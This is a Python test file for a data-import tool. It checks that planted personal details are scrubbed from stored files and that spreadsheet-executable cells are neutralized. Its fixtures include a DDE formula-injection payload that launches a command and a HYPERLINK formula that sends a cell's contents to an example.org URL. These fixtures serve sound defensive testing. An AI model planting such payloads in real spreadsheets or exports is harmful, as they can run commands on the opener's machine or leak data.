"""Files that no platform would write, and what people hide in them: nothing personal stays."""

from __future__ import annotations

import csv

import pytest
from command_world import outcome, page_export, refresh, week, weeks

from doingoai import datasets

MAIL, TELEPHONE, CARD = "mai.estamar@example.org", "0912 345 678", "001199012345"
PLANTED = f"chị Nguyễn Thị Bích Hạnh, email {MAIL}, ĐT {TELEPHONE}, CCCD {CARD}, @hanh_rieng"
RAW = (MAIL, TELEPHONE, "0912345678", CARD, "Bích Hạnh", "hanh_rieng")
MELTWATER = (
    "Date", "Headline", "URL", "Opening Text", "Hit Sentence", "Source", "Influencer", "Country",
    "Language", "Reach", "AVE", "Sentiment", "Input Name", "Document Tags",
)  # fmt: skip
FORMULA = '=HYPERLINK("https://example.org/?"&A2,"Tin")'


def monitored(path, **changed):
    """A monitoring tool's export of twenty items, some cells of the first ones changed."""
    rows = [
        {
            "Date": f"{1 + number:02d}-Nov-2025 09:30AM",
            "Headline": f"Trade talks, day {number}",
            "URL": f"https://example.org/{number}",
            "Hit Sentence": "Viet Nam and Estamar talk.",
            "Source": "The Estamar Courier",
            "Country": "Portugal",
            "Language": "English",
            "Reach": "1200.0",
            "AVE": "3.5",
            "Sentiment": "Neutral",
            "Input Name": "Viet Nam",
            "Document Tags": "trade",
        }
        for number in range(20)
    ]
    for name, cells in changed.items():
        for row, cell in zip(rows, cells, strict=False):
            row[name.replace("_", " ")] = cell
    with path.open("w", encoding="utf-16", newline="") as file:
        writer = csv.DictWriter(file, MELTWATER, delimiter="\t", restval="")
        writer.writeheader()
        writer.writerows(rows)
    return path


def left(root):
    """Every planted value that is in a file below ``root``, or in its name."""
    return [
        (path.name, raw)
        for path in root.rglob("*")
        if path.is_file()
        for raw in RAW
        if raw in path.name or raw in path.read_text(encoding="utf-8")
    ]


@pytest.mark.parametrize("accepted", [True, False])
def test_nothing_personal_stays_in_any_file_of_the_store(root, tmp_path, capsys, accepted):
    export = monitored(
        tmp_path / f"mentions {MAIL} 0912345678.csv",
        Headline=[PLANTED] * 3,
        Opening_Text=[PLANTED] * 3,
        Hit_Sentence=["", "", PLANTED],
        Source=["Courier", PLANTED],
        Influencer=["@hanh_rieng"] * 20,
        Country=[PLANTED],
        Language=["English", PLANTED],
        Sentiment=[PLANTED],
        Input_Name=["Viet Nam", "Viet Nam", PLANTED],
        Document_Tags=[PLANTED, "trade", PLANTED],
        Reach=["1", "2", "3", TELEPHONE],
        Date=[*(f"{1 + n:02d}-Nov-2025 09:30AM" for n in range(19 if accepted else 5)), MAIL]
        + [CARD] * 14,
    )

    code = refresh(export, "--zone", "Europe/Lisbon", "--yes", "--lang", "en")

    assert code == (0 if accepted else 1)
    assert left(root) == []
    said = capsys.readouterr()
    assert not [raw for raw in RAW if raw in said.out + said.err]


def test_a_headline_that_a_spreadsheet_would_run_is_made_harmless(root, tmp_path):
    heads = [FORMULA, "=cmd|' /C calc'!A0", "- Talks at 9:00 (Lisbon)", "@estamar", "+3% trade"]
    assert refresh(monitored(tmp_path / "m.csv", Headline=heads), "--zone", "UTC", "--yes") == 0

    with datasets.using({"coverage": root / "coverage"}):
        kept = datasets.load("coverage").sort_values("published_at")["headline"].tolist()
    assert kept[:2] == [f"'{FORMULA}", "'=cmd|' /C calc'!A0"]
    assert kept[2] == "- Talks at 9:00 (Lisbon)"
    assert kept[4] == "+3% trade"


def test_a_column_name_that_a_spreadsheet_would_run_is_written_down_harmless(root, tmp_path):
    rows = [*(week(n) for n in range(20)), week(20, stories="many")]
    header = ("date", "name", "=matched_stories", "all_candidate_stories", "query")
    assert refresh(weeks(tmp_path / "w.csv", rows, header), "--yes") == 0

    written = next((root / "coverage" / "history").rglob("rejected.csv")).read_text("utf-8")
    assert ",'=matched_stories," in written


def test_a_text_where_an_identifier_should_be_is_rejected_and_not_kept(root, tmp_path):
    export = page_export(tmp_path / "posts.csv")
    with export.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    rows[1][0] = PLANTED
    with export.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)

    _, told = outcome(tmp_path, export, "--zone", "Europe/Lisbon", "--dry-run")

    assert told["rows"]["rejected"] == 1
    assert left(root) == []


def test_a_label_in_a_mapping_file_is_kept_and_personal_groups_are_not(root, tmp_path):
    export = tmp_path / "pages.csv"
    pages = ["/", f"/contact?email={MAIL}", *(f"/p{number}" for number in range(10))]
    lines = [f"{page},{number}" for number, page in enumerate(pages)]
    export.write_text("\n".join(["Page,Visits", *lines, ""]), encoding="utf-8")
    mapping = tmp_path / "pages.toml"
    mapping.write_text(
        'dataset = "breakdowns"\n[columns]\ngroup = "Page"\n[constants]\naccount = "Estamar"\n'
        'platform = "website"\ndimension = "page"\n[metrics]\nVisits = "views, times"\n',
        encoding="utf-8",
    )

    assert refresh(export, "--mapping", mapping, "--yes") == 0

    with datasets.using({"breakdowns": root / "breakdowns"}):
        kept = datasets.load("breakdowns")
    assert set(kept["account"]) == {"Estamar"}
    assert "/contact?email=[email]" in set(kept["group"])
    assert left(root) == []
